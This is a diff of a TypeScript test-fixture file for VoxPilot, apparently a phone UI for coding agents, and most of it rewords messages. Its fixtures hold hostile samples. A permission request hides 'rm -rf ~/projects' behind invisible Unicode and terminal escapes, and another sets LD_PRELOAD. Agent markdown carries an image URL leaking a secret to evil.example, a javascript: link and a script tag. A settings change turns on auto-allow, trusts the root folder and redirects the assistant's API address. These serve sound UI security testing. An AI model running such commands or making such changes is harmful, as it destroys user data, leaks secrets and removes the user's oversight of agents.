@@ -1,4 +1,4 @@
-// Made-up blocks, one of every kind and in every state worth looking at.
+// Sample blocks, one of every kind and in every state worth looking at.
 
 import type { Block, CheckStep, Decision, DeviceInfo, PastSession, SettingsInfo, ToolContent } from "../src/state";
 
@@ -101,7 +101,7 @@ tests/test_sessions.py \u001b[32m....\u001b[0m\u001b[31mF\u001b[0m\u001b[32m...\
 `;
 
 const ANSWER = `I found it. \`Sessions.renew\` always adds **3600 seconds**, whatever lifetime the shop was configured with, and it reads the
-wall clock directly, which is why the test could not see it.
+wall clock directly, which is why the test missed it.
 
 What I changed:
 
@@ -157,7 +157,7 @@ export function goodTurn(): Block[] {
       agent: "claude",
       answer: { question_id: "q0", outcome: "allow_once", by: "person", option_id: "once", where: "Phone", at: NOW - 130 },
     }),
-    tool(129, "execute", "python -m pytest -q", { turn: "t0", status: "failed", input: { command: "python -m pytest -q", cwd: WORKSPACE }, content: [said(TEST_OUTPUT)], output: { exitCode: 1, message: "The command ended with status 1." } }),
+    tool(129, "execute", "python -m pytest -q", { turn: "t0", status: "failed", input: { command: "python -m pytest -q", cwd: WORKSPACE }, content: [said(TEST_OUTPUT)], output: { exitCode: 1, message: "The command exited with status 1." } }),
     block(120, { kind: "text", message_id: "a1", turn: "t0", text: ANSWER }),
     block(118, { kind: "turn", turn: "t0", since: NOW - 189, stop_reason: "end_turn" }),
   ];
@@ -206,13 +206,29 @@ export const editQuestion = () =>
 export const sneakyQuestion = () =>
   question({
     title: "List files",
-    detail: { tool: "call-s", tool_kind: "read", input: { command: "ls\u202e\u200b; rm -rf ~/projects # \u001b[2K list", cwd: "/home/ada" }, caution: "~/projects is outside the folder" },
+    detail: { tool: "call-s", tool_kind: "read", input: { command: "ls\u202e\u200b; rm -rf ~/projects # \u001b[2K list", cwd: "/home/ada" }, caution: "~/projects is outside the chat's folder" },
+  });
+
+/** The request has more fields than the card has places for. */
+export const crowdedQuestion = () =>
+  question({
+    title: "List files",
+    detail: {
+      tool: "call-c",
+      tool_kind: "execute",
+      input: { command: "ls -la", cwd: WORKSPACE, env: { LD_PRELOAD: "/tmp/a.so" } },
+      more: { _meta: { afterwards: "make install" }, rawOutput: "done", status: "approved" },
+      options_left_out: 120,
+      alike: true,
+      changed: true,
+      unclear: "it sets variables",
+    },
   });
 
 export const formQuestion = () =>
   question({
     type: "form",
-    title: "How shall the release be made?",
+    title: "How should the release be made?",
     options: [],
     detail: {
       schema: {
@@ -221,7 +237,7 @@ export const formQuestion = () =>
           version: { type: "string", title: "Version", description: "Like 1.4.0", minLength: 5, pattern: "^\\d+\\.\\d+\\.\\d+$" },
           channel: { type: "string", title: "Channel", enum: ["stable", "beta", "nightly"], default: "beta" },
           retries: { type: "integer", title: "Retries", minimum: 0, maximum: 5, default: 2 },
-          notify: { type: "array", title: "Tell", items: { anyOf: [{ const: "mail", title: "by mail" }, { const: "chat", title: "in the chat room" }] } },
+          notify: { type: "array", title: "Notify", items: { anyOf: [{ const: "mail", title: "by email" }, { const: "chat", title: "in the chat room" }] } },
           sign: { type: "boolean", title: "Sign the packages", default: true },
         },
         required: ["version", "channel"],
@@ -247,8 +263,8 @@ export function terminalTurn(): Block[] {
     block(300, { kind: "message", id: "m7", role: "user", text: "Run the tests, then watch the server." }),
     terminal(290, "k-1", { text: TEST_OUTPUT, exit: { exit_code: 1 } }),
     tool(289, "execute", "make test", { status: "failed", input: { command: "make test", cwd: WORKSPACE }, content: [shows("k-1")] }),
-    block(280, { kind: "text", message_id: "a7", text: "One test fails. I look at the server." }),
-    terminal(270, "k-2", { command: ["tail", "-f", "log/server log.txt"], text: `${flood}\n\n[… 1,204,331 bytes left out …]\ntick 99999\n`, skipped: 1204331, exit: { signal: "SIGKILL" } }),
+    block(280, { kind: "text", message_id: "a7", text: "One test fails. I will check the server next." }),
+    terminal(270, "k-2", { command: ["tail", "-f", "log/server log.txt"], text: `${flood}\n\n[… 1,204,331 bytes omitted …]\ntick 99999\n`, skipped: 1204331, exit: { signal: "SIGKILL" } }),
     terminal(260, "k-3", { command: "npm run dev", text: "\u001b[32m✔\u001b[0m listening on \u001b[36mhttp://127.0.0.1:5173\u001b[0m\n", held: true }),
     tool(259, "execute", "npm run dev", { status: "in_progress", input: { command: "npm run dev", cwd: WORKSPACE }, content: [shows("k-3")] }),
   ];
@@ -268,13 +284,13 @@ export function signInTerminal(): Block[] {
     }),
     question({
       type: "sign-in",
-      title: "Sign in in the terminal of this chat",
+      title: "Sign in using this chat’s terminal",
       agent: "claude",
       options: [
-        { id: "done", label: "I have signed in: try again", kind: "retry" },
+        { id: "done", label: "I have signed in, try again", kind: "retry" },
         { id: "dismiss", label: "Not now", kind: "reject_once" },
       ],
-      detail: { terminal_id: "s-1", hint: "Sign in in the terminal above. When its command is done, the turn goes on by itself." },
+      detail: { terminal_id: "s-1", hint: "Sign in using the terminal above. The turn continues when the command finishes." },
     }),
   ];
 }
@@ -286,13 +302,13 @@ export const signInQuestion = (reason?: string) =>
     agent: "copilot",
     options: [
       { id: "method:web", label: "Sign in with GitHub", kind: "sign_in" },
-      { id: "done", label: "I have signed in: try again", kind: "retry" },
+      { id: "done", label: "I have signed in, try again", kind: "retry" },
       { id: "dismiss", label: "Not now", kind: "reject_once" },
     ],
     detail: {
       methods: [
-        { id: "web", name: "Sign in with GitHub", description: "Opens a page in the browser of the machine where the agent runs.", type: "agent" },
-        { id: "tty", name: "Sign in in a terminal", description: "Run this where VoxPilot runs.", type: "terminal", command: "copilot --acp --stdio login" },
+        { id: "web", name: "Sign in with GitHub", description: "Opens a page in a browser on the machine that runs the agent.", type: "agent" },
+        { id: "tty", name: "Sign in using a terminal", description: "Run this on the machine that runs VoxPilot.", type: "terminal", command: "copilot --acp --stdio login" },
       ],
       hint: "Run `copilot login` in a terminal.",
       ...(reason && { reason }),
@@ -307,44 +323,44 @@ export const trustQuestion = () =>
       { id: "trust", label: "Trust this folder", kind: "trust" },
       { id: "not-now", label: "Not now", kind: "not_now" },
     ],
-    detail: { folders: [WORKSPACE], why: "Agents started here can run its code and follow its settings and instructions." },
+    detail: { folders: [WORKSPACE], why: "Agents that start in this folder can run its code and follow its settings and instructions." },
   });
 
 export const contextQuestion = () =>
   question({
     type: "confirm",
-    title: "Tell the new Claude Code session what you last asked for?",
+    title: "Send your last message to the new Claude Code session?",
     options: [
-      { id: "include", label: "Send it along", kind: "allow_once" },
-      { id: "leave-out", label: "Leave it out", kind: "reject_once" },
+      { id: "include", label: "Send it", kind: "allow_once" },
+      { id: "leave-out", label: "Do not send", kind: "reject_once" },
     ],
     detail: { text: "Sessions of signed-in users live too long after a renewal. Find out why, fix it, and add a test." },
   });
 
-/** Everything the house says of sessions, and a turn that broke off. */
+/** Every notice about sessions, and an interrupted turn. */
 export function brokenTurn(): Block[] {
   const notice = (before: number, level: string, code: string, text: string, detail?: string) =>
     block(before, { kind: "notice", level, code, text, ...(detail && { detail }) });
   return [
-    notice(500, "info", "restored", "Claude Code has its session back.", "What it said last, before it ended, may be missing on its side."),
-    notice(495, "info", "restarted", "The agent is restarted with its session."),
-    notice(490, "info", "no-memory", "Codex cannot bring sessions back: once it ends, it will not remember this chat."),
-    notice(485, "info", "history-unseen", "Codex goes on with this session, but cannot show what was said in it before."),
+    notice(500, "info", "restored", "The Claude Code session was restored.", "The agent may not remember its last messages."),
+    notice(495, "info", "restarted", "The agent was restarted with its session."),
+    notice(490, "info", "no-memory", "Codex cannot restore sessions. It will not remember this chat after it exits."),
+    notice(485, "info", "history-unseen", "Codex resumed this session but cannot show its earlier messages."),
     notice(480, "warning", "session-not-restored", "The previous Claude Code session could not be restored. A new session has been started. Your conversation history in VoxPilot is intact."),
-    notice(475, "info", "context-sent", "The new session is told what the lost one was last asked for.", "Find out why sessions live too long."),
-    notice(470, "info", "not-trusted", "Nothing was started, for the folder is not trusted. Send a message to be asked again."),
+    notice(475, "info", "context-sent", "Your last message was sent to the new session.", "Find out why sessions live too long."),
+    notice(470, "info", "not-trusted", "The agent was not started because this folder is not trusted. Send a message to be asked again."),
     block(400, { kind: "message", id: "m9", role: "user", text: "Now tidy up the imports." }),
-    block(390, { kind: "text", message_id: "a9", text: "Three files have imports out of order. I will begin with" }),
-    block(380, { kind: "turn", since: NOW - 400, stop_reason: "interrupted", error: { message: "Claude Code crashed (signal 11, SIGSEGV).", hint: "What it said so far is kept. Send a message to start it again.", detail: "Segmentation fault" } }),
+    block(390, { kind: "text", message_id: "a9", text: "Three files have imports out of order. I will start with" }),
+    block(380, { kind: "turn", since: NOW - 400, stop_reason: "interrupted", error: { message: "Claude Code crashed (signal 11, SIGSEGV).", hint: "Its output so far is saved. Send a message to start it again.", detail: "Segmentation fault" } }),
   ];
 }
 
-/** Everything that may go wrong or look odd. */
+/** Everything that may go wrong or look unusual. */
 export function oddTurn(): Block[] {
   const huge = Array.from({ length: 900 }, (_, n) => `line ${n + 1} of a long file`).join("\n");
   return [
     block(900, { kind: "message", id: "m3", role: "user", text: "A message\nwith several lines,\n\n    and an indented one, and averyveryverylongwordthatdoesnotfitanywhereatallbecauseitjustgoesonandonandonandon" }),
-    block(890, { kind: "notice", level: "info", code: "recovered", text: "The server was restarted; the agent went on working meanwhile." }),
+    block(890, { kind: "notice", level: "info", code: "recovered", text: "The server was restarted. The agent kept working." }),
     block(889, { kind: "notice", level: "warning", code: "session-not-restored", text: "The previous Copilot session could not be restored. A new session has been started. Your conversation history in VoxPilot is intact." }),
     block(888, { kind: "notice", level: "error", code: "agent-stderr", text: "The agent wrote to its error output.", detail: "Error: ENOENT: no such file or directory, open '/home/ada/.config/agent.json'\n    at Object.openSync (node:fs:601:3)" }),
     tool(880, "delete", "Delete old.py", { locations: [{ path: at("old.py") }] }),
@@ -356,16 +372,16 @@ export function oddTurn(): Block[] {
     tool(860, "edit", "Write big.txt", { content: [{ type: "diff", path: at("big.txt"), oldText: huge, newText: huge.replaceAll("long", "very long") }] }),
     tool(850, "execute", "npm install", { status: "cancelled", input: { command: "npm install" } }),
     tool(840, "execute", "cargo build", { status: "in_progress", input: { command: ["cargo", "build", "--features", "a b"] }, content: [said("   Compiling shop v0.1.0\n")] }),
-    block(830, { kind: "thought", message_id: "t9", text: "Hmm. The build takes long." }),
+    block(830, { kind: "thought", message_id: "t9", text: "The build is taking a while." }),
     block(820, { kind: "text", message_id: "a3", text: "A remote picture: ![chart](https://evil.example/c.png?q=secret), a [harmless link](https://example.com/a), a\n[javascript link](javascript:alert(1)), raw <b>bold</b> and <script>alert(1)</script> markup.\n\n> A quotation\n> over two lines\n\n- [x] done\n- [ ] open\n\n---\n\n### A heading\n\n```sh\nvoxpilot run --agent claude \"a very long command line that does not fit into the narrow column of a phone\" --json | jq .text\n```\n\n| a | wide | table | that | has | many | columns | and | scrolls |\n|---|---|---|---|---|---|---|---|---|\n| some cell | some cell | some cell | some cell | some cell | some cell | some cell | some cell | some cell |" }),
     block(810, { kind: "unknown", raw: { sessionUpdate: "future_update", value: { a: 1 } } }),
-    block(805, { kind: "turn", since: NOW - 900, stop_reason: "error", error: { message: "The agent stopped with status 1 before it had answered.", hint: "Send the message again; the agent is started anew.", exit_code: 1, stderr: "Traceback (most recent call last):\n  File \"agent.py\", line 3\nKeyError: 'token'" } }),
+    block(805, { kind: "turn", since: NOW - 900, stop_reason: "error", error: { message: "The agent exited with status 1 before it answered.", hint: "Send the message again to restart the agent.", exit_code: 1, stderr: "Traceback (most recent call last):\n  File \"agent.py\", line 3\nKeyError: 'token'" } }),
     block(700, { kind: "message", id: "m4", role: "user", text: "Try again." }),
     block(690, { kind: "turn", since: NOW - 700, stop_reason: "cancelled" }),
   ];
 }
 
-/** The assistant hands work to an agent. */
+/** The assistant delegates work to an agent. */
 export function delegatedTurn(): Block[] {
   const call = { tool_call_id: "d1" };
   return [
@@ -378,6 +394,17 @@ export function delegatedTurn(): Block[] {
   ];
 }
 
+/** Changes that somebody made to the settings file. */
+export const PENDING = {
+  fingerprint: "f",
+  changes: [
+    { name: "acp_auto_allow_permissions", before: "off", after: "on" },
+    { name: "trusted_folders", before: "/home/ada/shop", after: "/home/ada/shop\n/" },
+    { name: "assistant.base_url", before: "none", after: "http://203.0.113.7:8080/v1/a-very-long-address-that-does-not-end-soon/chat" },
+    { name: "assistant.api_key", before: "a key", after: "a new key" },
+  ],
+};
+
 export const SETTINGS = {
   values: { strict: false, acpAutoAllowPermissions: false, question_timeout: 0, trusted_folders: ["/home/ada/projects"], assistant: { provider: "openai", model: "gpt-5.4", base_url: "", api_key: "**********", context_tokens: 0, max_output_tokens: 0 }, acpDefaultAgentId: "", interactionModeDefault: "agent", work_dir: WORKSPACE },
   path: "/home/ada/.config/voxpilot/config.toml",
@@ -385,11 +412,12 @@ export const SETTINGS = {
   decided_elsewhere: [],
   only_in_file: [],
   waiting: [],
+  pending: null,
 } as unknown as SettingsInfo;
 
 export const DEVICES: DeviceInfo[] = [
-  { id: "d1", name: "Chrome on Linux", created_at: NOW - 900_000, last_used_at: NOW - 5, this_one: true },
-  { id: "d2", name: "Safari on iPhone", created_at: NOW - 300_000, last_used_at: NOW - 4000, this_one: false },
+  { id: "d1", name: "Chrome on Linux", created_at: NOW - 900_000, last_used_at: NOW - 5, this_one: true, confirmed: true },
+  { id: "d2", name: "Safari on iPhone", created_at: NOW - 300_000, last_used_at: NOW - 4000, this_one: false, confirmed: true },
 ];
 
 const decision = (at: number, more: Partial<Decision>): Decision => ({
@@ -408,9 +436,9 @@ export const DECISIONS: Decision[] = [
 export const STEPS: CheckStep[] = [
   { name: "found", outcome: "ok", text: "Found at /usr/local/bin/copilot.", hint: "", detail: "", seconds: 0 },
   { name: "version", outcome: "warning", text: "Version 0.0.390 is older than 0.0.400.", hint: "Update it: npm install -g @github/copilot", detail: "", seconds: 0.4 },
-  { name: "starts", outcome: "ok", text: "It starts.", hint: "", detail: "", seconds: 0.1 },
+  { name: "starts", outcome: "ok", text: "Started.", hint: "", detail: "", seconds: 0.1 },
   { name: "handshake", outcome: "ok", text: "Protocol version 1: Copilot 0.0.390.", hint: "", detail: "", seconds: 1.2 },
-  { name: "session", outcome: "failed", text: "It is not signed in.", hint: "Run `copilot login` in a terminal.", detail: "No token was found.", seconds: 0.7 },
+  { name: "session", outcome: "failed", text: "Not signed in.", hint: "Run `copilot login` in a terminal.", detail: "No token was found.", seconds: 0.7 },
 ];
 const WORKED = `Looking at the sessions module first.
 The lifetime is a constant, so a renewed session lives for an hour whatever is configured.
@@ -431,7 +459,7 @@ export function delegatedQuestion(): Block {
   });
 }
 
-/** A whole turn of the assistant: it was asked again, looked itself, had work done, and answered. */
+/** A whole turn of the assistant: the model was asked again, used its tools, delegated work, and answered. */
 export function delegatedDone(): Block[] {
   const call = { tool_call_id: "d2" };
   const other = { tool_call_id: "d3" };
@@ -442,18 +470,18 @@ export function delegatedDone(): Block[] {
       delegated: { session_name, agent, summary: "Done.", stop_reason }, ...more,
     });
   return [
-    block(300, { kind: "message", id: "m6", role: "user", text: "Fix the auth bug, and have the tests run." }),
-    block(299, { kind: "text", message_id: "s1-1", text: "I will first have a look at", superseded: true }),
-    block(298, { kind: "text", message_id: "s1-2", text: "I look at the code first, then I hand the work to agents." }),
+    block(300, { kind: "message", id: "m6", role: "user", text: "Fix the auth bug and run the tests." }),
+    block(299, { kind: "text", message_id: "s1-1", text: "I will start by looking at", superseded: true }),
+    block(298, { kind: "text", message_id: "s1-2", text: "I will look at the code first, then delegate the work to agents." }),
     tool(297, "search", "grep_search", { name: "grep_search", input: { pattern: "expires_at" }, ...returned("shop/auth/sessions.py:12: expires_at: float") }),
-    tool(296, "read", "read_file", { name: "read_file", input: { path: "shop/auth/nowhere.py" }, ...returned("There is no file shop/auth/nowhere.py.", true) }),
+    tool(296, "read", "read_file", { name: "read_file", input: { path: "shop/auth/nowhere.py" }, ...returned("File not found: shop/auth/nowhere.py.", true) }),
     handed("d2", "auth-bug-fix", "copilot", "end_turn", returned(WORKED)),
     block(279, { kind: "text", message_id: "d2-a", text: WORKED, ...call }),
     tool(278, "edit", "Edit sessions.py", { content: [authDiff], ...call }),
     handed("d3", "flaky-cart", "claude", "interrupted", returned("Looking", true)),
     block(277, { kind: "text", message_id: "d3-a", text: "Looking", ...other }),
-    block(270, { kind: "text", message_id: "s2", text: "The lifetime is fixed and all tests pass. The second agent ended in the midst of its work." }),
-    block(269, { kind: "turn", since: NOW - 300, stop_reason: "interrupted", error: { message: "The agent ended in the midst of its work.", hint: "Press Continue to have the assistant go on." } }),
+    block(270, { kind: "text", message_id: "s2", text: "The lifetime is fixed and all tests pass. The second agent exited before it finished." }),
+    block(269, { kind: "turn", since: NOW - 300, stop_reason: "interrupted", error: { message: "The agent exited before it finished.", hint: "Select Continue to let the assistant continue." } }),
   ];
 }
 
@@ -468,7 +496,7 @@ export const SESSIONS: PastSession[] = [
   past(4, "", 300),
 ];
 
-/** One hostile text, everywhere a text may come from others. */
+/** One hostile text, everywhere untrusted text can appear. */
 export function attacked(text: string): Block[] {
   return [
     block(1, { kind: "message", id: `x-${pos}`, role: "user", text }),
